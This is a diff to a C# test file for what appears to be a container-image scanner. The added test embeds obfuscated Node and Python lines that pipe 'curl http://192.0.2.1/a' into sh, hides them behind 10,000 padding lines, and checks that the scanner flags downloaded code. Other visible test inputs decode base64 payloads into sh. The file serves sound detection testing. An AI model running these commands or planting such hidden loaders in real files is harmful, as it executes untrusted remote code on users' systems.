@@ -99,6 +99,17 @@ public sealed class ShellBoundsTests
     public void What_is_missing_or_too_large_is_no_error(string text) => Assert.Contains(Evaluate(text + "\n" + Payload).Effects, Runs);
 
     [Theory]
+    [InlineData("exec node /b.js", "b.js", "const c=require('child'+'_process');c['ex'+'ec']('curl http://192.0.2.1/a | sh')", "// aa")]
+    [InlineData("exec python3 /b.py", "b.py", "from os import system as s; s('curl http://192.0.2.1/a | sh')", "# aa")]
+    public async Task A_large_program_that_runs_is_read_without_words_that_tell(string script, string path, string code, string comment)
+    {
+        var lines = string.Concat(Enumerable.Repeat("          " + comment + "\n", 10_000));
+        var report = await Scanned.ReportOf(ExampleImage.Read($"entrypoint: [/e]\nlayers:\n  - createdBy: COPY . /\n    files:\n      - path: e\n        mode: \"755\"\n        text: |\n          #!/bin/sh\n          {script}\n      - path: {path}\n        text: |\n          {code}\n{lines}", "test.yml", 7));
+        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
+        Assert.Contains(report.Signals, signal => signal.Rule == "content/runs-downloaded-code");
+    }
+
+    [Theory]
     [InlineData("base64 -d /p.b64 | sh")]
     [InlineData("sh < /p.b64")]
     [InlineData("eval \"$(cat /p.b64)\"")]
